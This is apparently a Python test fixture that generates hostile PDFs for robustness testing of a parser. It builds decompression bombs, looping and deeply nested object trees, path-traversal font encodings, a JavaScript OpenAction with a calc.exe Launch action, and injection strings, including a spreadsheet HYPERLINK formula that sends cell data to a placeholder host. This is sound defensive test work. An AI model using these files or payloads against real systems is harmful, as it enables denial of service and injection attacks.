"""PDFs by name; each has one property, and the name says which."""

# ruff: noqa: E501, N806
import random
import zlib

from tests.hostile.pdf_bytes import FL, FL2, FONT, MiB, Pdf, base, deflate_rep


def pdfs() -> dict[str, bytes]:
    made = {}
    made["ok_minimal.pdf"] = base().out()
    size = 256 * MiB
    made["bomb_flate_spaces.pdf"] = base(deflate_rep(b" ", size), cfilter=FL).out()
    lvl1 = deflate_rep(b" ", 1024 * MiB)
    made["bomb_flate2_1g.pdf"] = base(zlib.compress(lvl1, 9), cfilter=FL2).out()
    made["bomb_flate_ops.pdf"] = base(deflate_rep(b"BT /F1 9 Tf 9 9 Td (A) Tj ET\n", 64 * MiB), cfilter=FL).out()
    made["bomb_flate_numbers.pdf"] = base(deflate_rep(b"1 ", 64 * MiB), cfilter=FL).out()
    made["bomb_runlength.pdf"] = base(
        zlib.compress(b"\x81 " * MiB + b"\x80", 9), cfilter=b"/Filter [/FlateDecode /RunLengthDecode]"
    ).out()
    made["predictor_columns.pdf"] = base(
        zlib.compress(b"\x02" + b"q Q " * 64),
        cfilter=FL + b" /DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>",
    ).out()
    made["predictor_neg.pdf"] = base(
        zlib.compress(b"\x02" + b"q Q " * 64), cfilter=FL + b" /DecodeParms << /Predictor 12 /Columns -5 >>"
    ).out()
    p = base()
    del p.objs[3]

    def cmap_font(cmap: bytes, w=b"", enc=b"/Identity-H"):
        p = base(b"BT /F1 12 Tf 72 720 Td <00410042> Tj ET")
        p.obj(
            5,
            b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding "
            + enc
            + b" /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>",
        )
        p.obj(
            6,
            b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor 8 0 R "
            + w
            + b" >>",
        )
        p.stream(7, cmap)
        p.obj(
            8,
            b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1000 1000] /Ascent 800 /Descent -200 /CapHeight 700 /ItalicAngle 0 /StemV 80 >>",
        )
        return p.out()

    HEAD = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapType 2 def 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
    TAIL = b"\nendcmap CMapName currentdict /CMap defineresource pop end end"
    made["cmap_bfrange_1g.pdf"] = cmap_font(HEAD + b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange" + TAIL)
    made["cmap_cidrange_1g.pdf"] = cmap_font(HEAD + b"1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange" + TAIL)
    made["cmap_bfrange_64k_x200.pdf"] = cmap_font(
        HEAD + b"200 beginbfrange " + b"<0000> <FFFF> <0041>\n" * 200 + b" endbfrange" + TAIL
    )
    made["cidw_range_2g.pdf"] = cmap_font(HEAD + TAIL, w=b"/W [0 2147483647 500] /DW 1000")
    made["cmap_usecmap_self.pdf"] = cmap_font(HEAD + b"/Adobe-Identity-UCS usecmap" + TAIL)
    made["cmap_path_traversal.pdf"] = cmap_font(HEAD + TAIL, enc=b"/..#2F..#2F..#2F..#2Ftmp#2Fevil")
    made["cmap_path_absolute.pdf"] = cmap_font(HEAD + TAIL, enc=b"/#2Ftmp#2Fcanary")
    evil = [
        "<script>alert(1)</script>",
        '=HYPERLINK("http://x.example/?"&A1)',
        "'); DROP TABLE masznahme;--",
        "a\x00b",
        "\u202egnp.exe",
        "\u200b\u200d\ufeff",
        "\ud800",
    ]
    bf = b"".join(
        (
            b"<%04X> <%s>\n" % (65 + i, s.encode("utf-16-be", "surrogatepass").hex().upper().encode())
            for i, s in enumerate(evil)
        )
    )
    made["text_payloads_tounicode.pdf"] = (lambda b: b)(
        cmap_font(HEAD + b"%d beginbfchar\n" % len(evil) + bf + b"endbfchar" + TAIL).replace(
            b"<00410042> Tj", b"<" + b"".join(b"%04X" % (65 + i) for i in range(len(evil))) + b"> Tj"
        )
    )

    def pages(n):
        p = Pdf()
        p.obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
        p.obj(2, b"<< /Type /Pages /Count %d /Kids [" % n + b" ".join(b"%d 0 R" % (10 + i) for i in range(n)) + b"] >>")
        p.stream(3, b"BT /F1 9 Tf 9 9 Td (x) Tj ET")
        p.obj(5, FONT)
        for i in range(n):
            p.obj(
                10 + i,
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            )
        return p.out()

    made["pages_5k.pdf"] = pages(5000)
    p = base()
    p.obj(2, b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>")
    made["pagetree_selfref.pdf"] = p.out()
    p = base()
    p.obj(2, b"<< /Type /Pages /Kids [3 0 R 9 0 R] /Count 2 >>")
    p.obj(9, b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")
    made["pagetree_loop2.pdf"] = p.out()

    def chain(d):
        p = Pdf()
        p.obj(1, b"<< /Type /Catalog /Pages 10 0 R >>")
        p.obj(5, FONT)
        for i in range(d):
            p.obj(10 + i, b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (11 + i))
        p.obj(10 + d, b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (9 + d))
        return p.out()

    made["pagetree_depth5k.pdf"] = chain(5000)
    p = base()
    p.obj(2, b"<< /Type /Pages /Count 1000000 /Kids [" + b"3 0 R " * 100000 + b"] >>")
    made["pagetree_same_kid.pdf"] = p.out()
    p = Pdf()
    p.obj(1, b"<< /Type /Catalog /Pages 10 0 R >>")
    p.obj(5, FONT)
    for i in range(12):
        p.obj(10 + i, b"<< /Type /Pages /Count 1000000000 /Kids [" + b"%d 0 R " % (11 + i) * 10 + b"] >>")
    p.obj(22, b"<< /Type /Page /MediaBox [0 0 595 842] >>")
    made["pagetree_dag_10e12.pdf"] = p.out()
    p = base()
    p.obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>")
    made["pagetree_count_lie.pdf"] = p.out()
    p = base()
    p.obj(3, p.objs[3].replace(b"/Parent 2 0 R", b"/Parent 3 0 R").replace(b"/MediaBox [0 0 595 842]", b""))
    made["page_parent_self.pdf"] = p.out()

    def nest(n, a=b"[", z=b"]"):
        return a * n + z * n

    N = 50000
    made["nest_array_obj.pdf"] = base(extra_page=b"/X " + nest(N)).out()
    made["nest_dict_obj.pdf"] = base(extra_page=b"/X " + b"<</A " * N + b"1" + b" >>" * N).out()
    made["nest_array_content.pdf"] = base(b"BT /F1 9 Tf " + nest(N) + b" TJ ET").out()
    p = base()
    p.trailer_extra = b"/Info << /Title " + nest(N) + b" >>"
    made["nest_array_trailer.pdf"] = p.out()
    p = base()
    p.trailer_extra = b"/Info 9 0 R"
    p.obj(9, b"<< /Title 9 0 R /Author [9 0 R 9 0 R] >>")
    made["info_selfref.pdf"] = p.out()
    p = base(b"q " * N + b"Q " * N)
    made["nest_q.pdf"] = p.out()
    p = base(extra_page=b"/Annots [9 0 R]")
    p.obj(
        9,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Parent 9 0 R /P 3 0 R /A << /S /URI /URI (javascript:alert\\(1\\)) /Next 9 0 R >> >>",
    )
    made["annot_loop_js_uri.pdf"] = p.out()
    p = base(extra_page=b"/Annots [" + b"9 0 R " * 50000 + b"]")
    p.obj(9, b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (http://a.example) >> >>")
    made["annots_many.pdf"] = p.out()
    p = base(b"/X Do")
    p.obj(3, p.objs[3].replace(b"/Resources <<", b"/Resources << /XObject << /X 9 0 R >>"))
    p.stream(9, b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X 9 0 R >> >>")
    made["xobject_selfref.pdf"] = p.out()
    p = base(b"/X Do")
    p.obj(3, p.objs[3].replace(b"/Resources <<", b"/Resources << /XObject << /X 20 0 R >>"))
    for i in range(9):
        p.stream(
            20 + i,
            b"/X Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X %d 0 R >> >>" % (21 + i),
        )
    p.stream(
        29,
        b"BT /F1 9 Tf (lol) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /Font << /F1 5 0 R >> >>",
    )
    made["xobject_billion_laughs.pdf"] = p.out()
    p = base()
    p.objs[4] = b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"
    made["length_selfref.pdf"] = p.out()
    p = base()
    p.objs[4] = b"<< /Length 9999999999 >>\nstream\nBT ET\nendstream"
    made["length_huge.pdf"] = p.out()
    p = base()
    p.objs[4] = b"<< /Length -1 >>\nstream\nBT ET\nendstream"
    made["length_negative.pdf"] = p.out()
    p = base()
    p.objs[4] = b"[4 0 R 4 0 R]"
    made["contents_selfref.pdf"] = p.out()
    b = base().out()
    pos = b.rfind(b"xref\n0")
    made["xref_prev_loop.pdf"] = b.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % pos)
    made["xref_count_huge.pdf"] = base().out().replace(b"xref\n0 6\n", b"xref\n0 999999999\n")
    made["startxref_bogus.pdf"] = base().out().replace(b"startxref\n", b"startxref\n99999999")
    made["no_xref.pdf"] = b.split(b"xref\n")[0]
    p = base()
    made["xrefstm_index_2g.pdf"] = (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        + b"9 0 obj\n<< /Type /XRef /Size 2147483647 /W [1 2 1] /Index [0 2147483647] /Root 1 0 R /Length 8 >>\nstream\n"
        + b"\x00" * 8
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF"
    )
    i = made["xrefstm_index_2g.pdf"].find(b"9 0 obj")
    made["xrefstm_index_2g.pdf"] = made["xrefstm_index_2g.pdf"].replace(b"%d", b"%d" % i).replace(b"%%%%EOF", b"%%EOF")
    d = zlib.compress(b"\x01" * (64 * MiB), 9)
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    made["xrefstm_bomb.pdf"] = (
        body
        + b"9 0 obj\n<< /Type /XRef /Size 16777216 /W [1 2 1] /Filter /FlateDecode /Root 1 0 R /Length %d >>\nstream\n"
        % len(d)
        + d
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
    )
    made["inline_image_no_ei.pdf"] = base(b"BI /W 10 /H 10 /BPC 8 /CS /G ID " + b"\x00A" * 50000).out()

    def lines(n, grid=False):
        rnd = random.Random(1)
        c = zlib.compressobj(6)
        out = []
        buf = []
        for i in range(n):
            x, y = (rnd.randrange(595), rnd.randrange(842))
            buf.append(
                b"%d %d m %d %d l S\n" % (x, y, x + 50, y) if i & 1 else b"%d %d m %d %d l S\n" % (x, y, x, y + 50)
            )
            if len(buf) == 20000:
                out.append(c.compress(b"".join(buf)))
                buf = []
        out.append(c.compress(b"".join(buf)))
        out.append(c.flush())
        return b"".join(out)

    def rep_lines(n):
        return deflate_rep(b"9 9 m 99 9 l S\n", 15 * n)

    made["lines_20k_random.pdf"] = base(lines(20000), cfilter=FL).out()
    made["lines_1m_same.pdf"] = base(rep_lines(1000000), cfilter=FL).out()

    def gridpdf(n):
        s = b"".join(
            b"%.2f 0 m %.2f 800 l S\n" % (i * 500 / n, i * 500 / n)
            + b"0 %.2f m 500 %.2f l S\n" % (i * 800 / n, i * 800 / n)
            for i in range(n + 1)
        )
        return base(zlib.compress(s), cfilter=FL).out()

    for n in (50, 100, 200):
        made[f"grid_{n}x{n}.pdf"] = gridpdf(n)

    def chars(n):
        return base(deflate_rep(b"BT /F1 2 Tf 9 9 Td (A) Tj ET\n", 29 * n), cfilter=FL).out()

    made["chars_50k_same_spot.pdf"] = chars(50000)
    made["chars_300k_same_spot.pdf"] = chars(300000)
    rnd = random.Random(2)
    made["chars_100k_scatter.pdf"] = base(
        zlib.compress(
            b"BT /F1 3 Tf "
            + b"".join(
                b"1 0 0 1 %d %d Tm (%c) Tj\n" % (rnd.randrange(595), rnd.randrange(842), 65 + i % 26)
                for i in range(100000)
            )
            + b" ET"
        ),
        cfilter=FL,
    ).out()
    for nm, mb in {
        "mediabox_1e9": b"[0 0 1000000000 1000000000]",
        "mediabox_1e38": b"[0 0 1" + b"0" * 38 + b" 1" + b"0" * 38 + b"]",
        "mediabox_1e400": b"[0 0 1" + b"0" * 400 + b" 1" + b"0" * 400 + b"]",
        "mediabox_inverted": b"[595 842 0 0]",
        "mediabox_zero": b"[0 0 0 0]",
        "mediabox_3": b"[0 0 595]",
        "mediabox_text": b"[(a) (b) /c null]",
        "mediabox_ref_self": b"3 0 R",
    }.items():
        made[nm + ".pdf"] = base(mediabox=mb).out()
    made["number_5mb_digits.pdf"] = base(b"BT /F1 12 Tf " + b"9" * (MiB // 2) + b" 0 Td (x) Tj ET").out()
    made["coords_1e308.pdf"] = base(
        b"BT /F1 "
        + b"9" * 308
        + b" Tf "
        + b"9" * 308
        + b" "
        + b"9" * 308
        + b" Td (x) Tj ET "
        + b"9" * 308
        + b" 0 m 0 "
        + b"9" * 308
        + b" l S"
    ).out()
    made["coords_nan.pdf"] = base(b"BT /F1 nan Tf inf -inf Td (x) Tj ET nan nan m 1 1 l S").out()
    made["string_unterminated.pdf"] = base(b"BT (((((((((" + b"a" * 100000).out()
    made["name_1mb.pdf"] = base(extra_page=b"/" + b"N" * MiB + b" 1").out()
    made["js_launch_embedded.pdf"] = (
        lambda p: (
            p.obj(
                1,
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >> >>",
            ),
            p.out(),
        )[1]
    )(base())
    p = base(b"/I Do")
    p.obj(3, p.objs[3].replace(b"/Resources <<", b"/Resources << /XObject << /I 9 0 R >>"))
    p.stream(
        9,
        deflate_rep(b"\x00", 20 * MiB),
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceGray "
        + FL,
    )
    made["image_100k_x_100k.pdf"] = p.out()
    good = made["ok_minimal.pdf"]
    for pc in (10, 50, 90, 99):
        made[f"truncated_{pc:02d}.pdf"] = good[: len(good) * pc // 100]
    made["empty_0byte.pdf"] = b""
    made["onebyte.pdf"] = b"%"
    made["header_only.pdf"] = b"%PDF-1.7\n"
    made["html_named.pdf"] = b"<!doctype html><title>404 Not Found</title><p>Seite nicht gefunden"
    made["junk_prefix_2k.pdf"] = b"x" * 2048 + good
    made["random_64k.pdf"] = random.Random(3).randbytes(65536)
    made["pdf_magic_then_random.pdf"] = b"%PDF-1.7\n" + random.Random(4).randbytes(65536)
    made["null_1mb.pdf"] = b"\x00" * MiB
    for k in range(80):
        r = random.Random(100 + k)
        b = bytearray(gridpdf(10))
        for _ in range(1 + k):
            b[r.randrange(len(b))] = r.randrange(256)
        made[f"mutant_{k:02d}.pdf"] = bytes(b)
    p = base()
    p.trailer_extra = b"/ID [<00> <00>] /Encrypt << /Filter /Adobe.PubSec /V 4 /R 4 >>"
    made["enc_pubsec.pdf"] = p.out()
    p = base()
    p.trailer_extra = b"/Encrypt << /Filter /Standard /V 99 /R 99 /O (x) /U (y) /P -1 >>"
    made["enc_v99_no_id.pdf"] = p.out()
    p = base()
    p.trailer_extra = (
        b"/ID [<00> <00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 2147483647 /O (x) /U (y) /P -1 >>"
    )
    made["enc_len_huge.pdf"] = p.out()
    return made


def three_pages(second: bytes) -> bytes:
    """Three pages, the middle one with this content."""
    p = Pdf()
    p.obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    p.obj(2, b"<< /Type /Pages /Kids [10 0 R 11 0 R 12 0 R] /Count 3 >>")
    p.obj(5, FONT)
    for n, content in enumerate(
        (b"BT /F1 12 Tf 72 720 Td (Erste Seite) Tj ET", second, b"BT /F1 12 Tf 72 720 Td (Dritte Seite) Tj ET")
    ):
        p.obj(
            10 + n,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
            % (20 + n),
        )
        p.stream(20 + n, content, FL if content is second else b"")
    return p.out()


def many_chars(n: int) -> bytes:
    """The content of a page with so many letters on one spot."""
    return deflate_rep(b"BT /F1 2 Tf 9 9 Td (A) Tj ET\n", 29 * n)
